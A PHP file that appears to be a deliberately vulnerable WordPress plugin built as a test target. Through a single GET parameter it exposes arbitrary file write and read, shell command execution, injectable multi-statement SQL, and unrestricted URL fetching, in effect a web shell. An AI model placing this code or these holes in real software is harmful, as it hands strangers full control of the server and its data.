<?php
/**
 * A plugin with the holes that real ones have: it writes any file, reads any file, runs any command, puts what it is sent into SQL, and
 * fetches any address. For tests alone.
 */
require '/srv/wordpress/wp-load.php';
global $wpdb;
$wpdb->suppress_errors();

function holes_fetch( $url, $socket ) {
	$handle = curl_init( $url );
	curl_setopt_array( $handle, array( CURLOPT_RETURNTRANSFER => true, CURLOPT_FOLLOWLOCATION => true, CURLOPT_CONNECTTIMEOUT => 60 ) );
	if ( '' !== $socket ) {
		curl_setopt( $handle, CURLOPT_UNIX_SOCKET_PATH, $socket );
	}
	return (string) curl_exec( $handle );
}

function holes_query( $name ) {
	global $wpdb;
	$rows = array();
	if ( ! mysqli_multi_query( $wpdb->dbh, "SELECT option_value FROM wp_options WHERE option_name = '$name'" ) ) {
		return mysqli_error( $wpdb->dbh );
	}
	do {
		$result = mysqli_store_result( $wpdb->dbh );
		$rows[] = $result ? $result->fetch_all() : mysqli_error( $wpdb->dbh );
	} while ( mysqli_more_results( $wpdb->dbh ) && mysqli_next_result( $wpdb->dbh ) );
	$rows[] = mysqli_error( $wpdb->dbh );
	return $rows;
}

$holes_asked   = json_decode( base64_decode( $_GET['asked'] ), true );
$holes_answers = array();
foreach ( $holes_asked as list( $hole, $first, $second ) ) {
	try {
		$holes_answers[] = array(
			'write' => fn() => @file_put_contents( $first, $second ),
			'read'  => fn() => @file_get_contents( $first ),
			'run'   => fn() => shell_exec( $first . ' 2>&1' ),
			'query' => fn() => holes_query( $first ),
			'fetch' => fn() => holes_fetch( $first, $second ),
		)[ $hole ]();
	} catch ( Throwable $error ) {
		$holes_answers[] = $error->getMessage();
	}
}
echo json_encode( $holes_answers, JSON_INVALID_UTF8_SUBSTITUTE );
